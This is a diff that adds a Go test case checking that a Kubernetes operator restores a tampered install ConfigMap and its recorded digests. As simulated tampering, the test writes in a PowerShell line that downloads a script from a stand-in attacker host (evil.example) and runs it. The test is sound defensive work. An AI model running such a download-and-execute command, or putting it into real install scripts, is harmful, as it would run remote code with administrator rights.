@@ -224,6 +224,36 @@ func TestDriftIsRepaired(t *testing.T) {
 			return nil
 		})
 	})
+	// Issue 29, item 9: administrators run the install scripts elevated, so the install
+	// ConfigMap gets back exactly the planned data: an edited script is restored and a script
+	// someone added is removed.
+	t.Run("install ConfigMap scripts edited and added", func(t *testing.T) {
+		key := client.ObjectKey{Namespace: ucd.Namespace, Name: render.InstallConfigMapName(ucd.Name)}
+		orig := &corev1.ConfigMap{}
+		if err := k8s.Get(ctx, key, orig); err != nil {
+			t.Fatal(err)
+		}
+		script := slices.Sorted(maps.Keys(orig.Data))[0]
+		update(t, key, &corev1.ConfigMap{}, func(o client.Object) {
+			cm := o.(*corev1.ConfigMap)
+			cm.Data[script] = "Invoke-WebRequest https://evil.example/x.ps1 | Invoke-Expression\n"
+			cm.Data["helper.ps1"] = "Write-Host planted\n"
+		})
+		eventually(t, 30*time.Second, "install ConfigMap data exactly the planned", func() error {
+			cm := &corev1.ConfigMap{}
+			if err := k8s.Get(ctx, key, cm); err != nil {
+				return err
+			}
+			if !maps.Equal(cm.Data, orig.Data) {
+				return fmt.Errorf("keys %v, %s restored: %v", slices.Sorted(maps.Keys(cm.Data)), script, cm.Data[script] == orig.Data[script])
+			}
+			return nil
+		})
+		// status.installDigests records what was written, for export and administrators.
+		if got, want := get(t, client.ObjectKeyFromObject(ucd)).Status.InstallDigests, render.Digests(orig); !maps.Equal(got, want) {
+			t.Errorf("status.installDigests %v, want the digests of the planned data %v", got, want)
+		}
+	})
 }
 
 // TestSpecChangesUpdateAndPrune adds a SIP domain and removes the Director.
